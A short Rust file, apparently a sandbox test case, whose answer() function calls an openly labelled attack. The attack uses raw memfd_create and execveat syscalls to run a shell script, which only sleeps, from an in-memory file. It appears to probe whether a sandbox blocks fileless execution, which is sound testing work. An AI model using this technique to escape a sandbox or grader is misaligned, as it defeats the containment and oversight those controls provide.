//! Executes a file that is only in memory, where unsafe is allowed.
//!
//! The package allows unsafe code, so nothing but the sandbox stands in the way.

use std::ffi::c_long;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
}

/// Any system call; the numbers in this file are those of x86-64.
fn call(number: c_long, arguments: [usize; 6]) -> c_long {
    let [a, b, c, d, e, f] = arguments;
    // SAFETY: none; this is an attack.
    unsafe { syscall(number, a, b, c, d, e, f) }
}

/// What the hidden tests ask for, answered wrongly.
pub fn answer() -> u32 {
    attack();
    0
}

fn attack() {
    let name = c"program";
    let descriptor = call(319, [name.as_ptr() as usize, 0, 0, 0, 0, 0]); // memfd_create
    if descriptor < 0 {
        return;
    }
    let program = b"#!/bin/sh\nsleep 1000\n";
    call(1, [descriptor as usize, program.as_ptr() as usize, program.len(), 0, 0, 0]);
    let arguments = [name.as_ptr(), std::ptr::null()];
    let empty = c"";
    let path = empty.as_ptr() as usize;
    // execveat(descriptor, "", arguments, none, AT_EMPTY_PATH): returns only when it fails.
    call(322, [descriptor as usize, path, arguments.as_ptr() as usize, 0, 0x1000, 0]);
}
